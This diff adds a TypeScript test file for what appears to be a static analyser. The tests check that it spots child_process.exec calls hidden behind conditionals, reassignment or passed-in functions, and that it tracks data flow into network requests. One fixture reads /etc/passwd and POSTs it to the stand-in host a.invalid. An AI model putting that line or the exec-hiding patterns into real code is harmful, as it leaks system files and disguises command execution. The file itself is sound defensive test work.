@@ -1,0 +1,49 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+
+import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';
+
+const RUNS = 'call spawns child_process.exec(unmask-marker)';
+
+/** Ways to call a function of Node that is one of several, or one of several that are handed over. */
+const CHOICES: Readonly<Record<string, string>> = {
+  'the second of a condition': `const own = x => x; const run = process.argv[2] ? own : cp.exec; exports.go = () => { run('unmask-marker'); };`,
+  'the second of a condition where it is called': `exports.go = quiet => { (quiet ? console.log : cp.exec)('unmask-marker'); };`,
+  'what else there is': `exports.go = run => { const own = run || cp.exec; own('unmask-marker'); };`,
+  'what a function is exchanged for later': `let run = x => x; if (process.argv[2]) run = cp.exec; exports.go = () => { run('unmask-marker'); };`,
+  'what a declared function is exchanged for': `function run(x) { return x; } if (process.argv[2]) run = cp.exec; exports.go = () => { run('unmask-marker'); };`,
+  'a method of the second of two objects': `const own = { exec: x => x }; exports.go = quiet => { const by = quiet ? own : cp; by.exec('unmask-marker'); };`,
+  'what the second caller hands over': `
+    const own = x => x; function attempt(run, ...args) { try { return run(...args); } catch (error) { console.error(error); } }
+    exports.count = () => attempt(own, 1); exports.go = () => attempt(cp.exec, 'unmask-marker');`,
+};
+
+describe('a call of one of several', () => {
+  for (const [choice, code] of Object.entries(CHOICES)) {
+    it(`means ${choice} as well`, () => {
+      const { effects } = behaviourOf({ 'index.js': `const cp = require('child_process'); ${code}` });
+      assert.ok(effects.map(lineOf).includes(RUNS), effects.map(lineOf).join('\n'));
+    });
+  }
+
+  it('gives what any of them gives', () => {
+    const code = `const fs = require('fs'); const none = () => ''; const get = process.argv[2] ? none : fs.readFileSync;
+      fetch('https://a.invalid', { method: 'POST', body: get('/etc/passwd') });`;
+    assert.ok(flowLines({ 'index.js': code }).includes('fs.readFileSync → fetch as content'));
+  });
+
+  it('is not given what the caller of another hands over', () => {
+    const code = `const cp = require('child_process'); const own = x => x; const attempt = (run, ...args) => { try { return run(...args); } catch (error) { console.error(error); } };
+      exports.count = () => attempt(own, 'unmask-marker'); exports.go = command => attempt(cp.exec, command);`;
+    const { effects } = behaviourOf({ 'index.js': code });
+    assert.ok(!effects.map(lineOf).includes(RUNS), effects.map(lineOf).join('\n'));
+  });
+
+  it('means nothing of a name that is written with texts alone', () => {
+    const code = `const cp = require('child_process'); let run = 'a'; if (process.argv[2]) run = 'b'; exports.go = () => run('unmask-marker') ?? cp;`;
+    assert.deepEqual(
+      behaviourOf({ 'index.js': code }).effects.filter(({ kind }) => kind === 'spawns'),
+      [],
+    );
+  });
+});
